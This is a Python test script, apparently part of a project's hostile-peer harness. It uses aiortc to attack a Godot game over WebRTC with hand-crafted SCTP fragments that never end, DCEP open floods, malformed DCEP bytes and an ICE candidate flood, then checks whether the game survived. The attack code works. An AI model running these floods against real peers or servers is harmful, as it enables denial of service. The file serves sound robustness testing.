"""The attacker of `cargo xtask hostile`: an aiortc peer (its SCTP is plain Python, so
hand-made chunks are easy to send) that meets the game (hostile/godot/game.gd) in a lobby of
our signaling server, opens one ordinary channel "game", waits for it to open, then runs one
attack for --seconds and says "done" through signaling. Prints one line for xtask:

    SENT attack=NAME chunks=N bytes=N seconds=S

    python attacker.py --url ws://127.0.0.1:PORT --lobby CODE --attack NAME --seconds N

Attacks:
    control                complete 1200 B messages, ~2 MB/s, on the channel
    ordered-unending       one ordered message that never ends: a first fragment, then middle
                           fragments (no B, no E) with consecutive TSNs, ~12 MB/s
    unordered-unending     the same, unordered, ~2 MB/s
    dcep-flood             DCEP DATA_CHANNEL_OPEN on new stream ids, 16 B labels, flat out
    dcep-flood-big-labels  the same with 64 KiB labels
    dcep-garbage           1-byte DCEP messages of every type byte, on the channel's stream and
                           on new ones (0x00 panicked webrtc-rs's parser)
    candidate-flood        20,000 ICE candidates through signaling, at once
After the attack it sends "still-alive" on the channel (the game reports whether it arrived).
"""
import argparse
import asyncio
import json
import struct
import sys
import time

import websockets
from aiortc import RTCPeerConnection, RTCSessionDescription
from aiortc.rtcsctptransport import (
    SCTP_DATA_FIRST_FRAG,
    SCTP_DATA_UNORDERED,
    WEBRTC_BINARY,
    WEBRTC_DCEP,
    DataChunk,
)
from aiortc.sdp import candidate_from_sdp
from aiortc.utils import uint16_add
from aiortc.rtcsctptransport import tsn_plus_one


def log(*a):
    print("attacker:", *a, file=sys.stderr, flush=True)


class Pacer:
    """Spends `rate` bytes a second in 10 ms slices."""

    def __init__(self, rate):
        self.rate = rate
        self.start = time.monotonic()
        self.sent = 0

    async def wait(self, n):
        self.sent += n
        ahead = self.sent / self.rate - (time.monotonic() - self.start)
        if ahead > 0.01:
            await asyncio.sleep(ahead)
        elif self.sent % (64 * 1024) < n:
            await asyncio.sleep(0)  # let aiortc receive (SACKs, the game's traffic)


async def raw_data(sctp, stream_id, stream_seq, flags, payload, pp_id=WEBRTC_BINARY):
    """One hand-made DATA chunk with the association's next TSN, sent at once (not queued:
    aiortc never retransmits it; the SACKs just move its cumulative point)."""
    chunk = DataChunk()
    chunk.flags = flags
    chunk.tsn = sctp._local_tsn
    chunk.stream_id = stream_id
    chunk.stream_seq = stream_seq
    chunk.protocol = pp_id
    chunk.user_data = payload
    sctp._local_tsn = tsn_plus_one(sctp._local_tsn)
    await sctp._send_chunk(chunk)


def dcep_open(label):
    # RFC 8832 5.1: type 0x03, reliable, priority 0, reliability 0, label and protocol lengths.
    return struct.pack("!BBHLHH", 0x03, 0x00, 0, 0, len(label), 0) + label


def tolerate_acks_of_raw_opens(sctp):
    """aiortc asserts that a DCEP ACK names one of its channels; the raw opens below are not,
    and the assertion would end aiortc's receive loop (the attacker breaking itself)."""
    receive = sctp._data_channel_receive

    async def tolerant(stream_id, pp_id, data):
        if pp_id == WEBRTC_DCEP and stream_id not in sctp._data_channels:
            return
        await receive(stream_id, pp_id, data)

    sctp._data_channel_receive = tolerant


async def attack(name, seconds, channel, sctp, send_signal, godot_id):
    sid = channel.id
    tolerate_acks_of_raw_opens(sctp)
    deadline = time.monotonic() + seconds
    chunks = 0
    total = 0
    if name == "control":
        pacer = Pacer(2_000_000)
        data = bytes(1200)
        while time.monotonic() < deadline:
            if channel.bufferedAmount < 1 << 20:
                channel.send(data)
                chunks += 1
                total += len(data)
                await pacer.wait(len(data))
            else:
                await asyncio.sleep(0.005)
    elif name in ("ordered-unending", "unordered-unending"):
        unordered = name.startswith("unordered")
        pacer = Pacer(2_000_000 if unordered else 12_000_000)
        seq = 0 if unordered else sctp._outbound_stream_seq.get(sid, 0)
        base = SCTP_DATA_UNORDERED if unordered else 0
        payload = bytes(1172)
        while time.monotonic() < deadline:
            flags = base | (SCTP_DATA_FIRST_FRAG if chunks == 0 else 0)
            await raw_data(sctp, sid, seq, flags, payload)
            chunks += 1
            total += len(payload)
            await pacer.wait(len(payload))
    elif name in ("dcep-flood", "dcep-flood-big-labels"):
        label = b"x" * (16 if name == "dcep-flood" else 65535)
        stream = sid + 2
        while time.monotonic() < deadline and stream < 65534:
            await sctp._send(stream, WEBRTC_DCEP, dcep_open(label))
            chunks += 1
            total += len(label)
            stream += 2
            # aiortc queues what its window does not take; keep the queue short.
            while len(sctp._outbound_queue) > 256 and time.monotonic() < deadline:
                await asyncio.sleep(0.005)
            await asyncio.sleep(0)
    elif name == "dcep-garbage":
        stream = sid + 2
        while time.monotonic() < deadline and stream < 65534:
            for type_byte in range(256):
                for target in (sid, stream):
                    seq = sctp._outbound_stream_seq.get(target, 0)
                    await raw_data(sctp, target, seq, 0x03, bytes([type_byte]), WEBRTC_DCEP)
                    sctp._outbound_stream_seq[target] = uint16_add(seq, 1)
                    chunks += 1
                    total += 1
                await asyncio.sleep(0.002)
            stream += 2
    elif name == "candidate-flood":
        for i in range(20000):
            cand = "candidate:%d 1 udp 2130706431 127.0.%d.%d %d typ host" % (i, 1 + i // 250 % 200, 1 + i % 250, 10000 + i % 50000)
            await send_signal("candidate", {"mid": "0", "index": 0, "candidate": cand})
            chunks += 1
            total += len(cand)
        await asyncio.sleep(max(0.0, deadline - time.monotonic()))
    else:
        raise SystemExit("unknown attack " + name)
    return chunks, total


async def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--url", required=True)
    ap.add_argument("--lobby", required=True)
    ap.add_argument("--attack", required=True)
    ap.add_argument("--seconds", type=float, default=30)
    args = ap.parse_args()

    pc = RTCPeerConnection()
    ws = await websockets.connect(args.url, max_size=None)
    await ws.send(json.dumps({"type": "join", "lobby": args.lobby, "mesh": True}))
    joined = json.loads(await ws.recv())
    if joined.get("type") != "joined":
        log("join refused:", joined)
        return 1
    godot_id = joined["peers"][0]

    async def send_signal(kind, data):
        await ws.send(json.dumps({"type": kind, "to": godot_id, "data": data}))

    channel = pc.createDataChannel("game")
    opened = asyncio.Event()
    channel.on("open", opened.set)
    await pc.setLocalDescription(await pc.createOffer())
    await send_signal("offer", {"sdp": pc.localDescription.sdp})

    async def signaling():
        async for raw in ws:
            msg = json.loads(raw)
            if msg.get("type") == "answer":
                await pc.setRemoteDescription(RTCSessionDescription(sdp=msg["data"]["sdp"], type="answer"))
            elif msg.get("type") == "candidate":
                line = msg["data"].get("candidate", "")
                if line:
                    cand = candidate_from_sdp(line.split(":", 1)[1])
                    cand.sdpMid = msg["data"].get("mid")
                    cand.sdpMLineIndex = msg["data"].get("index", 0)
                    await pc.addIceCandidate(cand)

    task = asyncio.ensure_future(signaling())
    try:
        await asyncio.wait_for(opened.wait(), timeout=30)
        await asyncio.sleep(0.5)  # the game prints READY; xtask starts measuring
        start = time.monotonic()
        chunks, total = await attack(args.attack, args.seconds, channel, pc.sctp, send_signal, godot_id)
        spent = time.monotonic() - start
        print("SENT attack=%s chunks=%d bytes=%d seconds=%.1f" % (args.attack, chunks, total, spent), flush=True)
        if channel.readyState == "open":
            channel.send(b"still-alive")
        await asyncio.sleep(1.0)
        await send_signal("candidate", {"done": True})
        await asyncio.sleep(0.5)
    except asyncio.TimeoutError:
        log("the channel never opened")
        return 1
    finally:
        task.cancel()
        await pc.close()
        await ws.close()
    return 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
